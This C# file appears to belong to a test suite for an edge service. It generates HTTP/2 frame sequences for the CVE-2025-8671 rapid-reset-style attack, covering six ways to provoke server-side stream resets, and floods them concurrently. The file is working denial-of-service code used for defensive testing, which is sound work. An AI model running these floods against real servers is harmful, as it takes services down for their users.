namespace EdgeService.Tests.Doors.Hostile;

/// <summary>
/// Streams that the server is made to reset by itself (CVE-2025-8671), in all ways that the protocol has: it has begun to work on the call, and the
/// stream counts no longer.
/// </summary>
public static class MadeResets
{
    private const int Largest = int.MaxValue;

    public static Task RunAsync(AttackRun run) =>
        Task.WhenAll(Ways(run.Target).Select(way => FrameFloods.StreamsAsync(run, way)));

    private static IEnumerable<Func<int, byte[]>> Ways(AttackTarget target)
    {
        var call = HeaderBlock.OfCall(target.Path).ToArray();
        var pathless = new HeaderBlock().Add(":method", "POST").Add(":scheme", "https").Add("te", "trailers").ToArray();
        var announced = HeaderBlock.OfCall(target.Path).Add("content-length", "5").ToArray();
        // A path is missing: malformed, though every frame is right.
        yield return stream => Frame.Of(Frame.Headers, Frame.EndHeaders | Frame.EndStream, stream, pathless);
        // More comes than was announced.
        yield return stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, announced), .. Frame.Of(Frame.Data, 0, stream, new byte[64])];
        // A window grows beyond what it may.
        yield return stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, call), .. Frame.Window(stream, Largest)];
        // A window grows by nothing.
        yield return stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, call), .. Frame.Window(stream, 0)];
        // A stream waits for itself.
        yield return stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders, stream, call), .. Frame.Of(Frame.Priority, 0, stream, [0, 0, 0, (byte)stream, 16])];
        // Data comes after the end.
        yield return stream => [.. Frame.Of(Frame.Headers, Frame.EndHeaders | Frame.EndStream, stream, call), .. Frame.Of(Frame.Data, 0, stream, target.Body)];
    }
}
